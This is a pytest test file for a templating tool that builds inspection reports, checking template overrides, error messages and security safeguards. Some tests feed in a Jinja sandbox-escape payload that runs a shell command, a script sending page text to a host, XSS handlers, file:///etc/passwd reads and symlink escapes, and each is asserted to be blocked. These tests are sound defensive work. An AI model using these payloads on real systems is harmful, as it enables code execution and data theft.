"""A user's templates override the built-in ones; WeasyPrint's problems fail the build."""

from __future__ import annotations

import base64
import json
import re

import pikepdf
import pytest

from support import REPO, invoke

EXTENDS_DEFAULT = """{% extends "default:report.html.j2" %}
{% block styles %}{{ super() }}
.cover { border-top-color: #8b0000; }
{% endblock %}
"""


def _override(project, name, text):
    folder = project.root / "templates"
    folder.mkdir(exist_ok=True)
    (folder / name).write_text(text, encoding="utf-8")


def _build(project):
    return invoke(project, "build", "essex")


@pytest.mark.process
def test_override_extends_the_default(project_from):
    project = project_from()
    _override(project, "report.html.j2", EXTENDS_DEFAULT)
    result = _build(project)
    assert result.exit_code == 0, result.output
    html = (project.build_dir / "essex" / "essex-report.html").read_text(encoding="utf-8")
    assert ".cover { border-top-color: #8b0000; }" in html
    assert "Essex – National Child Protection Re-inspection" in html


@pytest.mark.process
def test_override_of_a_stylesheet(project_from):
    project = project_from()
    (project.root / "templates" / "css").mkdir(parents=True)
    _override(project, "css/report.css", "h2 { color: #123456; }\n")
    assert _build(project).exit_code == 0
    html = (project.build_dir / "essex" / "essex-report.html").read_text(encoding="utf-8")
    assert "h2 { color: #123456; }" in html and "leader(" not in html


@pytest.mark.process
@pytest.mark.parametrize(
    "markup,expected",
    [
        (
            '<img src="https://example.org/logo.png" alt="Logo">',
            "refused to read https://example.org",
        ),
        (
            '<link rel="attachment" href="file:///etc/passwd">',
            "templates may not put scripts or attachments in a document",
        ),
        ('<img src="file:///etc/hostname" alt="x">', "refused to read file:///etc/hostname"),
    ],
)
def test_resources_outside_the_project_fail_the_build(project_from, markup, expected):
    project = project_from()
    _override(
        project,
        "report.html.j2",
        '{% extends "default:report.html.j2" %}{% block body %}'
        + markup
        + "{{ super() }}{% endblock %}",
    )
    result = _build(project)
    assert result.exit_code == 1
    assert expected in result.stderr
    assert "Traceback" not in result.output
    assert not (project.build_dir / "essex" / "essex-report.pdf").exists()


SVG = (
    "data:image/svg+xml;base64,PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciIHdpZHRo"
    "PSIxMCIgaGVpZ2h0PSIxMCIvPg=="
)


@pytest.mark.process
@pytest.mark.parametrize(
    "template,expected",
    [
        (
            '{% extends "default:report.html.j2" %}{% block body %}<img src="' + SVG + '">'
            "{{ super() }}{% endblock %}",
            "has no required alt description",
        ),
        ("<html><head><title>t</title></head><body><h1>t</h1></body></html>", "lang"),
        ('<html lang="en-GB"><head></head><body><h1>t</h1></body></html>', "title"),
    ],
    ids=["image without alt", "no language", "no title"],
)
def test_weasyprint_accessibility_warnings_fail_the_build(project_from, template, expected):
    project = project_from()
    _override(project, "report.html.j2", template)
    result = _build(project)
    assert result.exit_code == 1, result.output
    assert "WeasyPrint reported a problem" in result.stderr and expected in result.stderr


@pytest.mark.process
def test_a_template_mistake_fails_with_file_and_line(project_from):
    project = project_from()
    _override(project, "press-release.txt.j2", "line\n{{ nonsense.field }}\n")
    result = invoke(project, "press-release", "essex")
    assert result.exit_code == 1
    assert "templates/press-release.txt.j2:2:1: template: 'nonsense' is undefined" in result.stderr


@pytest.mark.parametrize(
    ("name", "template", "expected"),
    [
        (
            "press-release.txt.j2",
            "line\n{{ nonsense.field }}\n",
            "templates/press-release.txt.j2:2:1: template: 'nonsense' is undefined",
        ),
        (
            "press-release.txt.j2",
            'line\nline\n{% include "missing.j2" %}\n',
            "templates/press-release.txt.j2:3:1: template: template not found: missing.j2",
        ),
        (
            "report.html.j2",
            '{% extends "default:report.html.j2" %}\n{% block styles %}{{ 1 / 0 }}{% endblock %}',
            "templates/report.html.j2:2:1: template: ZeroDivisionError: division by zero",
        ),
        (
            "press-release.txt.j2",
            '{{ "a" + 1 }}',
            "templates/press-release.txt.j2:1:1: template: TypeError: can only concatenate str "
            '(not "int") to str',
        ),
    ],
    ids=["undefined", "include of a missing file", "error in a block", "text plus a number"],
)
def test_validate_names_the_template_line_of_a_render_mistake(
    project_from, name, template, expected
):
    project = project_from()
    _override(project, name, template)
    result = invoke(project, "validate")
    assert result.exit_code == 1
    assert result.stdout.splitlines()[2] == expected  # After Essex's two acknowledged lines.
    problem = json.loads(invoke(project, "validate", "--format", "json").stdout)[2]
    assert (problem["path"], problem["code"], problem["severity"]) == ("", "template", "error")


def _readme_override_example() -> str:
    """The override example of docs/templates.md, as written there."""
    readme = (REPO / "docs" / "templates.md").read_text("utf-8")
    return re.search(r"add a logo:\n\n```jinja\n(.*?)```", readme, re.S).group(1)


def _png(colour) -> bytes:
    import io

    from PIL import Image

    buffer = io.BytesIO()
    Image.new("RGB", (40, 20), colour).save(buffer, format="PNG")
    return buffer.getvalue()


@pytest.mark.process
def test_the_readme_logo_example_works_as_written(project_from):
    project = project_from()
    _override(project, "report.html.j2", _readme_override_example())
    (project.templates_dir / "images").mkdir()
    logo = project.templates_dir / "images" / "logo.png"
    logo.write_bytes(_png("purple"))
    result = _build(project)
    assert result.exit_code == 0, result.output
    html = (project.build_dir / "essex" / "essex-report.html").read_text("utf-8")
    img = re.search(r'<img class="logo" src="([^"]+)" alt="HM Inspectorate', html).group(1)
    # The HTML is one file: the logo is inside it, so it shows wherever the file is opened.
    assert img.startswith("data:image/png;base64,")
    assert base64.b64decode(img.split(",", 1)[1]) == logo.read_bytes()
    pdf = pikepdf.open(project.build_dir / "essex" / "essex-report.pdf")
    assert any(
        xobject.get("/Subtype") == "/Image"
        for page in pdf.pages
        for xobject in page.get_images().values()
    )
    # The logo is one of the report's inputs: a new one rebuilds it, an unchanged one does not.
    assert "1 up to date" in _build(project).output
    logo.write_bytes(_png("green"))
    rebuilt = invoke(project, "-v", "build", "essex")
    assert "1 built" in rebuilt.output and "images/logo.png changed" in rebuilt.stderr


@pytest.mark.process
@pytest.mark.parametrize(
    "name, expected",
    [
        ("images/missing.png", "asset('images/missing.png'): no such file in templates/"),
        ("../reports/_common.yaml", "no such file in templates/"),
    ],
)
def test_asset_reads_only_the_templates_folders(project_from, name, expected):
    project = project_from()
    _override(
        project,
        "report.html.j2",
        '{% extends "default:report.html.j2" %}'
        "{% block body %}<img src=\"{{ asset('" + name + '\') }}" alt="x">'
        "{{ super() }}{% endblock %}",
    )
    result = _build(project)
    assert result.exit_code == 1
    assert expected in result.output + result.stderr
    assert "templates/report.html.j2:1" in result.output + result.stderr


def test_a_section_renamed_by_an_override_is_renamed_in_the_contents(project_from):
    """The contents list is made from the headings the template wrote, not from a second list."""
    from ncpi.check.validate import check_project
    from ncpi.render.documents import document_context, render_template
    from ncpi.render.names import REPORT_HTML
    from ncpi.render.templating import builtin_templates_dir

    project = project_from()
    default = (builtin_templates_dir() / "report.html.j2").read_text("utf-8")
    old = 'heading("next-steps", _("Next steps"))'
    assert old in default
    _override(
        project,
        "report.html.j2",
        default.replace(old, 'heading("next-steps", _("What happens next"))'),
    )
    checked = check_project(project, ["essex"], dry_run=False)
    context = document_context(checked.reports["essex"], checked.common)
    html = render_template(REPORT_HTML, context, project.templates_dir)
    contents = html.split('<nav class="contents"', 1)[1].split("</nav>", 1)[0]
    assert '<a href="#next-steps-heading">9 What happens next</a>' in contents
    assert "Next steps" not in contents


def test_an_assets_media_type_is_ncpis_not_the_machines(project_from, monkeypatch):
    # Python's own table lacks .woff; /etc/mime.types, where there is one, supplies it, and a
    # machine's table may say otherwise (application/x-font-woff): the HTML must not differ.
    import mimetypes

    import ncpi.render.templating
    from ncpi.check.validate import check_project
    from ncpi.render.documents import document_context, render_template
    from ncpi.render.names import REPORT_HTML

    monkeypatch.setattr(mimetypes, "guess_type", lambda *_, **__: ("application/x-font-woff", None))
    monkeypatch.setattr(ncpi.render.templating, "_ASSETS_ENCODED", {})  # Encoded afresh.
    project = project_from()
    checked = check_project(project, ["essex"], dry_run=False)
    context = document_context(checked.reports["essex"], checked.common)
    html = render_template(REPORT_HTML, context, project.templates_dir)
    assert 'url("data:font/woff;base64,' in html
    assert "x-font-woff" not in html


@pytest.mark.process
def test_asset_never_follows_a_link_out_of_the_templates_folder(project_from, tmp_path):
    project = project_from()
    secret = tmp_path / "secret.png"
    secret.write_bytes(b"SECRET-BYTES")
    (project.root / "templates" / "images").mkdir(parents=True)
    (project.root / "templates" / "images" / "logo.png").symlink_to(secret)
    _override(
        project,
        "report.html.j2",
        '{% extends "default:report.html.j2" %}'
        '{% block body %}<img src="{{ asset(\'images/logo.png\') }}" alt="x">'
        "{{ super() }}{% endblock %}",
    )
    result = _build(project)
    assert result.exit_code == 1
    assert "asset('images/logo.png'): no such file in templates/" in result.output + result.stderr
    assert not (project.build_dir / "essex" / "essex-report.html").exists()


def test_a_render_error_with_no_template_to_blame_is_put_on_the_templates_folder(project_from):
    # Raised by Python's own gettext when the catalogue lacks a text: not by a template line.
    from ncpi.check.validate import template_problem
    from ncpi.errors import RenderError

    project = project_from()
    problem = template_problem(project, RenderError("no cy translation of 'Contents' in x.po"))
    assert problem.as_text() == ("templates:1:1: template: no cy translation of 'Contents' in x.po")
    assert problem.code == "template"


def test_every_built_in_template_parses():
    # validate parses only the project's own templates; ncpi's are held to it here.
    from ncpi.render.templating import builtin_templates_dir, make_environment

    env = make_environment(None)
    templates = sorted(builtin_templates_dir().rglob("*.j2"))
    assert len(templates) >= 7
    for path in templates:
        env.parse(path.read_text(encoding="utf-8"))


def test_a_template_reaches_no_python_internals(project_from):
    """A project's template is input like a report: rendered in Jinja's sandbox, it cannot run
    a command (through cycler.__init__.__globals__) or change the data it is given."""
    project = project_from()
    project.templates_dir.mkdir()
    marker = project.root / "PWNED"
    (project.templates_dir / "report.html.j2").write_text(
        '{% extends "default:report.html.j2" %}{% block title %}'
        "{{ cycler.__init__.__globals__.os.popen('touch " + str(marker) + "').read() }}"
        "{% endblock %}"
    )
    result = invoke(project, "validate")
    assert result.exit_code == 1
    assert "templates/report.html.j2:1:1: template: access to attribute '__init__'" in (
        result.output
    ), result.output
    assert not marker.exists()
    (project.templates_dir / "report.html.j2").write_text(
        '{% extends "default:report.html.j2" %}{% block title %}'
        "{% set _ = report.inspection.recommendations.append(1) %}{% endblock %}"
    )
    result = invoke(project, "validate")
    assert result.exit_code == 1 and "unsafe" in result.output, result.output


@pytest.mark.parametrize(
    "body, what",
    [
        ("<script>fetch('https://example.org/?' + document.body.innerText)</script>", "a <script>"),
        ('<img src="x.png" alt="" onerror="alert(1)">', "an event handler (onerror=…)"),
        ('<a href="java&#x09;script:alert(1)">x</a>', "a javascript: address"),
        ('<link rel="attachment" href="data:text/plain,secret">', "a file attached to the PDF"),
        ('<a rel="nofollow ATTACHMENT" href="default:report.html.j2">x</a>', "a file attached"),
    ],
)
def test_a_template_may_put_no_script_or_attachment_in_a_document(project_from, body, what):
    project = project_from()
    project.templates_dir.mkdir()
    (project.templates_dir / "press-release.html.j2").write_text(
        '{% extends "default:press-release.html.j2" %}\n{% block body %}{{ super() }}\n'
        + body
        + "\n{% endblock %}\n"
    )
    result = invoke(project, "validate")
    assert result.exit_code == 1
    assert f"templates/press-release.html.j2:3:1: template: the document would hold {what}" in (
        result.output
    ), result.output
    assert "templates may not put scripts or attachments in a document" in result.output
    built = invoke(project, "press-release", "essex")
    assert built.exit_code == 1 and not (project.build_dir / "essex").exists()


def test_the_built_in_templates_make_inert_documents(essex_build, welsh_build):
    from ncpi.render.inert import active_content

    for built in (essex_build, welsh_build):
        for name, path in built.items():
            if name.endswith(".html"):
                assert active_content(path.read_text("utf-8")) == [], name


def test_asset_finds_what_is_there_at_each_call_and_never_follows_a_later_link_out(tmp_path):
    # Each name's paths are resolved once per environment: what changes afterwards must
    # still be seen, and a link made afterwards still never followed out.
    import jinja2

    from ncpi.render.templating import _asset_function

    own = tmp_path / "templates"
    (own / "fonts").mkdir(parents=True)
    asset = _asset_function(own)
    shipped = asset("fonts/Lato-Regular.ttf")  # ncpi's, while the project has none
    (own / "fonts" / "Lato-Regular.ttf").write_bytes(b"THE PROJECT'S OWN")
    assert asset("fonts/Lato-Regular.ttf") != shipped
    assert (
        base64.b64decode(asset("fonts/Lato-Regular.ttf").split(",", 1)[1]) == b"THE PROJECT'S OWN"
    )
    outside = tmp_path / "outside"
    outside.mkdir()
    (outside / "Lato-Regular.ttf").write_bytes(b"SECRET-BYTES")
    (own / "fonts" / "Lato-Regular.ttf").unlink()
    (own / "fonts").rmdir()
    (own / "fonts").symlink_to(outside)
    with pytest.raises(jinja2.TemplateRuntimeError, match="outside the project"):
        asset("fonts/Lato-Regular.ttf")


def test_a_dry_run_of_ncpis_templates_reads_no_asset_yet_still_misses_none(project_from):
    import jinja2

    from ncpi.check.validate import check_project
    from ncpi.render import templating
    from ncpi.render.documents import render_documents

    project = project_from()
    checked = check_project(project, ["essex"], dry_run=False)
    report, common = checked.reports["essex"], checked.common
    templating._ASSETS_ENCODED.clear()  # what asset() read and encoded in this process
    dry = render_documents(report, common, project.templates_dir, dry_run=True)
    assert dry.report_html.count('url("data:font/woff;base64,")') == 4
    assert templating._ASSETS_ENCODED == {}  # nothing read: embedded empty, as it is
    render_documents(report, common, project.templates_dir)
    assert len(templating._ASSETS_ENCODED) == 4  # a build reads the four fonts
    # A file that is not there is still a template's mistake in a dry run.
    asset = templating._asset_function(None)
    token = templating.EMBED_EMPTY.set(True)
    try:
        assert asset("fonts/web/Lato-Bold.woff") == "data:font/woff;base64,"
        with pytest.raises(jinja2.TemplateRuntimeError, match="no such file"):
            asset("fonts/web/Lato-Missing.woff")
    finally:
        templating.EMBED_EMPTY.reset(token)


def test_a_dry_run_of_ncpis_templates_embeds_the_fonts_empty_and_a_projects_whole(project_from):
    from ncpi.check.validate import check_project
    from ncpi.render.documents import render_documents

    project = project_from()
    checked = check_project(project, ["essex"], dry_run=False)
    report, common = checked.reports["essex"], checked.common
    whole = re.compile(r'url\("data:font/woff;base64,[A-Za-z0-9+/=]{1000,}"\)')
    empty = 'url("data:font/woff;base64,")'
    assert not project.templates_dir.is_dir()
    built = render_documents(report, common, project.templates_dir)
    dry = render_documents(report, common, project.templates_dir, dry_run=True)
    assert len(whole.findall(built.report_html)) == 4 and empty not in built.report_html
    assert dry.report_html.count(empty) == 4 and not whole.search(dry.report_html)
    assert whole.sub(empty, built.report_html) == dry.report_html  # nothing else differs
    # A project's own template may use what asset() gives it: its dry run embeds all.
    _override(project, "report.html.j2", '{% extends "default:report.html.j2" %}')
    dry = render_documents(report, common, project.templates_dir, dry_run=True)
    assert len(whole.findall(dry.report_html)) == 4
